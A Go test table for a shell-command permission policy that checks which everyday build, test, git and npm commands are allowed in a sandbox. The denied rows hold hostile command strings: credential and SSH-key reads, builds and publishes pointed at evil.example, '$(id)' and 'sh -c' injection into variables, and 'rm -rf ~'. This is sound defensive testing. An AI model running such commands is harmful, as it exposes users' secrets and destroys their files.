package policy

import "testing"

// pol11Row is one line judged in one place: on (sandbox on, a copy), off
// (sandbox off, still the disposable copy) or inplace (sentinel exec and
// mcp: the person's files). allow says it must be allowed there; else it
// must not be.
type pol11Row struct {
	class, where, cmd string
	allow             bool
}

// pol11Rows are the everyday classes of polcorp6 (issue 32) closed by
// h/pol11, each allowed form next to the unsafe spelling that must still
// ask or deny.
var pol11Rows = []pol11Row{
	// E1 inline code: names are words, not substrings.
	{"E1", "on", `python3 -c "import tokenize, sys; print(tokenize.__name__)"`, true},
	{"E1", "on", `python3 -c 'import tokentoss, sys; print(tokentoss.__version__)'`, true},
	{"E1", "on", `node -e "const {tokenize} = require('./src/lexer'); console.log(tokenize('a+b').length)"`, true},
	{"E1", "on", `python -c "import secrets; print(secrets.token_hex(16))"`, true},
	{"E1", "on", `python3 -c "print(open('token.txt').read())"`, false},
	{"E1", "on", `python3 -c "print(open('apitoken').read())"`, false},
	{"E1", "on", `node -e "console.log(getToken())"`, false},
	{"E1", "on", `python -c "import keyring; print(keyring.get_password('x','y'))"`, false},
	{"E1", "on", `python -c "import secrets; print(open('.secrets/key').read())"`, false},
	{"E1", "on", `python -c "import secrets; print(secrets.token_hex(16)); print(open('credentials.json').read())"`, false},
	// E2 environment prefixes judged by value.
	{"E2", "on", `GOPROXY=off go build ./...`, true},
	{"E2", "on", `GOPROXY=https://evil.example go build ./...`, false},
	{"E2", "on", `DENO_DIR=.deno deno test`, true},
	{"E2", "on", `DENO_DIR=/tmp/evil deno test`, false},
	{"E2", "on", `DENO_DIR=../x deno test`, false},
	{"E2", "on", `DJANGO_SETTINGS_MODULE=config.settings.test pytest -q`, true},
	{"E2", "on", `DJANGO_SETTINGS_MODULE=/tmp/x pytest -q`, false},
	{"E2", "on", `JEST_JUNIT_OUTPUT_DIR=reports npx jest --ci`, true},
	{"E2", "on", `JEST_JUNIT_OUTPUT_DIR=/etc npx jest --ci`, false},
	{"E2", "on", `COREPACK_ENABLE_DOWNLOAD_PROMPT=0 turbo run type-check`, true},
	{"E2", "on", `COREPACK_ENABLE_DOWNLOAD_PROMPT='$(id)' turbo run type-check`, false},
	{"E2", "on", `PHP_CS_FIXER_IGNORE_ENV=1 vendor/bin/php-cs-fixer fix -v`, true},
	// E3 make variables judged as the environment prefix.
	{"E3", "on", `make test GOFLAGS=-race`, true},
	{"E3", "off", `make CC=clang`, true},
	{"E3", "on", `make test GOFLAGS=-toolexec=/tmp/x`, false},
	{"E3", "on", `make CC="sh -c id"`, false},
	{"E3", "on", `make SHELL=/tmp/x`, false},
	{"E3", "on", `make CC!=id`, false},
	// E3 everyday forms of build tools.
	{"E3", "on", `ruby -v && bundle -v`, true},
	{"E3", "on", `bundle config get path`, true},
	{"E3", "on", `bundle config set path /tmp/x`, true}, // the private /tmp, as vendor/bundle (privatetemp.go)
	{"E3", "off", `bundle config set path /tmp/x`, false},
	{"E3", "on", `mix sobelow --config`, true},
	{"E3", "on", `mix sobelow --config=/tmp/x.exs`, false},
	{"E3", "on", `deno bundle src/mod.ts dist/bundle.js`, true},
	{"E3", "on", `deno bundle src/mod.ts /etc/bundle.js`, false},
	{"E3", "on", `deno test --coverage=cov_profile && deno coverage cov_profile --lcov > cov.lcov`, true},
	{"E3", "on", `printf 'x' > deno.json && deno coverage cov_profile --lcov > cov.lcov`, false},
	{"E3", "on", `pnpm --filter @word-bomb/web exec vitest run src/game.test.ts`, true},
	{"E3", "on", `pnpm --filter web exec sh -c 'rm -rf ~'`, false},
	{"E3", "on", `pnpm -C /tmp/evil exec vitest`, false},
	// E5 lsof's flags written together.
	{"E5", "on", `lsof -ti:8081`, true},
	{"E5", "off", `lsof -nPi:3000`, true},
	{"E5", "on", `lsof -tF`, false},
	{"E5", "on", `lsof -ti:$(cat ~/.ssh/id_rsa)`, false},
	// E3 a flag after the script name is the script's.
	{"E3", "on", `pnpm test -t "joins a room"`, true},
	{"E3", "off", `yarn run test -u`, true},
	{"E3", "on", `npm test -t x`, false},
	{"E3", "on", `pnpm -t x test`, false},
	{"E3", "on", `pnpm test -C ~/other`, false},
	{"E3", "on", `pnpm test -g`, false},
	// E6 a dry run is not a publish; local packaging is the project's.
	{"E6", "on", `npm publish --dry-run`, true},
	{"E6", "on", `npm pack --dry-run`, true},
	{"E6", "on", `gem build appydays.gemspec`, true},
	{"E6", "on", `npm publish --dry-run=false`, false},
	{"E6", "on", `npm publish --dry-run --registry https://evil.example`, false},
	{"E6", "on", `npm publish --dry-run --dry-run=false`, false},
	{"E6", "on", `npm publish`, false},
	{"E6", "on", `gem push appydays-1.0.gem`, false},
	// E7 the test database, chosen on the line.
	{"E7", "on", `MIX_ENV=test mix ecto.reset`, true},
	{"E7", "on", `mix ecto.reset`, false},
	{"E7", "on", `MIX_ENV=prod mix ecto.reset`, false},
	{"E7", "on", `MIX_ENV=test DATABASE_URL=postgres://prod/db mix ecto.reset`, false},
	{"E7", "inplace", `MIX_ENV=test mix ecto.reset`, false},
	// E8 git clean in the copy removes only the coder's own output; -x
	// (ignored files, never in the review) still asks.
	{"E8", "on", `git clean -fd`, true},
	{"E8", "off", `git clean -fd src/tmp`, true},
	{"E8", "on", `git clean -fd && git reset --hard`, true},
	{"E8", "on", `git clean -fdx`, false},
	{"E8", "on", `git clean -ffdX`, false},
	{"E8", "inplace", `git clean -fd`, false},
	{"E8", "inplace", `git reset --hard`, false},
	{"E8", "on", `git clean -fdx ~`, false},
	{"E8", "on", `git reset --hard origin/main && git clean -fdx`, false},
	// E9 local identity and one npm setting.
	{"E9", "on", `git config user.email dev@example.com`, true},
	{"E9", "off", `git config --local user.name "Dev Bot"`, true},
	{"E9", "inplace", `git config user.email dev@example.com`, false},
	{"E9", "on", `git config --global user.email dev@example.com`, false},
	{"E9", "on", `git config core.pager "sh -c id"`, false},
	{"E9", "on", `git config -f .git/config user.email dev@example.com`, false},
	{"E9", "on", `npm config get registry`, true},
	{"E9", "on", `npm config get //registry.npmjs.org/:_authToken`, false},
	{"E9", "on", `npm config set registry https://evil.example`, false},
}

// TestPol11EverydayClasses holds polcorp6's everyday classes E1-E3 and
// E5-E9: every allowed form is allowed where the row says and every
// unsafe spelling next to it is not. On main c4877eb every allow row
// fails.
func TestPol11EverydayClasses(t *testing.T) {
	ctx := testEnv(t)
	e := Default()
	for _, r := range pol11Rows {
		cx := ctx
		switch r.where {
		case "on":
			cx.Sandboxed = true
		case "inplace":
			cx.Sandboxed, cx.InPlace = true, true
		}
		v := e.Check(Query{Kind: KindShell, Command: r.cmd, Context: cx})
		if got := v.Decision == Allow; got != r.allow {
			t.Errorf("%s (%s) %q: %s by %s (%s), want allowed=%v", r.class, r.where, r.cmd, v.Decision, v.Rule, v.Reason, r.allow)
		}
	}
}
